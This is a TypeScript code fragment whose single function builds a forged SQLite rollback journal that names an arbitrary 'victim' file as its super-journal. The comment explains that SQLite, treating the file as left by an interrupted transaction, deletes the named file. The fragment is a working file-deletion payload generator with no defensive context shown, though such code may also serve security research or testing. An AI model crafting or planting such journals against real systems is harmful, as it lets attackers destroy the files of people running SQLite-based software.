/**
 * A rollback journal of a database of so many pages that names `victim` as its super-journal. SQLite, which finds it beside a
 * database, takes it for what an interrupted transaction left, and deletes the file that it names.
 * Format: https://sqlite.org/fileformat.html#the_rollback_journal
 */
export function superJournal(victim: string, pages: number): Buffer {
  const header = Buffer.alloc(SECTOR_BYTES);
  MAGIC.copy(header);
  // No pages, a nonce, then the database's size in pages before the transaction.
  header.writeUInt32BE(0, 8);
  header.writeUInt32BE(1, 12);
  header.writeUInt32BE(pages, 16);
  header.writeUInt32BE(SECTOR_BYTES, 20);
  header.writeUInt32BE(PAGE_BYTES, 24);
  const name = Buffer.from(victim);
  const tail = Buffer.alloc(4 + name.length + 8);
  tail.writeUInt32BE(LOCK_PAGE, 0);
  name.copy(tail, 4);
  tail.writeUInt32BE(name.length, 4 + name.length);
  tail.writeUInt32BE(
    name.reduce((sum, byte) => sum + byte, 0),
    8 + name.length,
  );
  return Buffer.concat([header, tail, MAGIC]);
}

const MAGIC = Buffer.from('d9d505f920a163d7', 'hex');
const SECTOR_BYTES = 512;
const PAGE_BYTES = 4096;
/** The page that SQLite locks and never stores, 1 GiB into a file. */
const LOCK_PAGE = 2 ** 30 / PAGE_BYTES + 1;
